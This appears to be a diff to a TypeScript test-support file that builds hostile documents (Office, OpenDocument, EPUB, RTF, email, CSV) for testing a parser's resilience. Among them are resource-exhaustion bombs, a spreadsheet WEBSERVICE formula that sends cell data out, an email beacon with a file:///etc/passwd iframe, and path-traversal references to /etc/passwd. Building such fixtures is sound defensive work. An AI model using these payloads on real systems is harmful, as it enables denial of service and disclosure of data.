@@ -1,5 +1,5 @@
 import type { TypesetFormatId } from 'contract/formats';
-import { madeDocx, madeRelations, madeZip } from './made-package.test-support.ts';
+import { madeDocx, madeOpenDocument, madePptx, madeRelations, madeXlsx, madeZip } from './made-package.test-support.ts';
 
 export interface HostileFile {
   readonly what: string;
@@ -69,8 +69,85 @@ export function madeHostileFiles(size: number): readonly HostileFile[] {
         { rId1: ['image', 'a.png'] },
       ),
     },
+    { what: 'a formula that calls out', format: 'xlsx', content: madeXlsx({ A: FORMULA }) },
+    { what: 'cells in far corners', format: 'xlsx', content: madeXlsx({ A: FAR }) },
+    {
+      what: 'columns without an end',
+      format: 'xlsx',
+      content: madeXlsx({ A: `<row>${'<c><v>1</v></c>'.repeat(2_000 * size)}</row>` }),
+    },
+    {
+      what: 'a reference that no sheet has',
+      format: 'xlsx',
+      content: madeXlsx({
+        A: '<row r="1e300"><c r="ZZZZZZZZZ1" t="s"><v>-1</v></c><c r="A1" s="1e9"><v>1e999</v></c><c><v>7</v></c></row>',
+      }),
+    },
+    {
+      what: 'a format of nothing but brackets',
+      format: 'xlsx',
+      content: madeXlsx(
+        { A: '<row><c s="0"><v>1</v></c><c><v>2</v></c></row>' },
+        {
+          'xl/styles.xml': `<styleSheet><numFmts><numFmt numFmtId="170" formatCode="${'[&quot;'.repeat(50_000 * size)}"/></numFmts><cellXfs><xf numFmtId="170"/></cellXfs></styleSheet>`,
+        },
+      ),
+    },
+    { what: 'groups in groups', format: 'pptx', content: madePptx(['<p:grpSp>'.repeat(5_000 * size)]) },
+    { what: 'slides that lead out of the package', format: 'pptx', content: madePptx([], LEADING_OUT) },
+    {
+      what: 'lists in lists',
+      format: 'odt',
+      content: madeOpenDocument('text', '<text:list><text:list-item>'.repeat(5_000 * size)),
+    },
+    {
+      what: 'cells repeated without an end',
+      format: 'ods',
+      content: madeOpenDocument(
+        'spreadsheet',
+        '<table:table><table:table-row table:number-rows-repeated="1e9"><table:table-cell table:number-columns-repeated="1e9"><text:p>x</text:p></table:table-cell></table:table-row></table:table>',
+      ),
+    },
+    {
+      what: 'spaces without an end',
+      format: 'odt',
+      content: madeOpenDocument('text', '<text:p>x<text:s text:c="1e300"/></text:p>'),
+    },
+    { what: 'a book that names a part outside', format: 'epub', content: madeZip(BOOK_OF_OTHERS) },
+    { what: 'groups in groups', format: 'rtf', content: `{\\rtf1 ${'{\\b '.repeat(9_000)}x` },
+    { what: 'a length that is a lie', format: 'rtf', content: '{\\rtf1 {\\pict\\bin99999999999 x}} seen' },
+    { what: 'rows without an end', format: 'rtf', content: `{\\rtf1 ${'\\intbl a\\cell\\row '.repeat(5_000 * size)}}` },
+    { what: 'parts in parts', format: 'eml', content: partsInParts(3_000 * size) },
+    { what: 'boundaries alone', format: 'eml', content: `${MIXED}${'--b\n'.repeat(50_000 * size)}` },
+    { what: 'white space without an end', format: 'eml', content: `${QUOTED}${' '.repeat(300_000 * size)}x` },
+    { what: 'a head without an end', format: 'eml', content: `From: a\nSubject: ${'=?utf-8?q?a?= '.repeat(20_000 * size)}` },
+    { what: 'a page that calls out', format: 'eml', content: BEACON },
+    { what: 'mails of one line', format: 'mbox', content: 'From x\n\n'.repeat(2_000 * size) },
+    { what: 'one endless line', format: 'csv', content: 'a,'.repeat(3_000 * size) },
+    { what: 'quotes without an end', format: 'csv', content: '"a,"'.repeat(30_000 * size) },
   ];
 }
+
+const FORMULA = '<row><c t="str"><f>WEBSERVICE("http://127.0.0.1:9/"&amp;A2)</f><v>saved</v></c></row>';
+const FAR = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>';
+
+const MIXED = 'From: a\nContent-Type: multipart/mixed; boundary=b\n\n';
+const QUOTED = 'From: a\nContent-Transfer-Encoding: quoted-printable\n\n';
+const BEACON =
+  'From: a\nContent-Type: text/html\n\n<p>Seen<img src="http://127.0.0.1:9/p.gif"><iframe src="file:///etc/passwd"></iframe>';
+const LEADING_OUT = {
+  'ppt/presentation.xml': '<p:presentation xmlns:p="p" xmlns:r="r"><p:sldId r:id="rId1"/></p:presentation>',
+  'ppt/_rels/presentation.xml.rels': madeRelations({ rId1: ['slide', '../../../../etc/passwd'] }),
+};
+const BOOK_OF_OTHERS = {
+  mimetype: 'application/epub+zip',
+  'META-INF/container.xml': '<rootfile full-path="book.opf"/>',
+  'book.opf':
+    '<package><item id="a" href="../../../etc/passwd" media-type="text/html"/><item id="b" href="http://127.0.0.1:9/" media-type="text/html"/><itemref idref="a"/><itemref idref="b"/></package>',
+};
+
+const partsInParts = (depth: number): string =>
+  `From: a\n${Array.from({ length: depth }, (_none, part) => `Content-Type: multipart/mixed; boundary=b${part}\n\n--b${part}\n`).join('')}\nx`;
 
 /** The head of a PNG of 60,000 by 60,000 pixels, and nothing behind it. */
 function hugePicture(): Buffer {
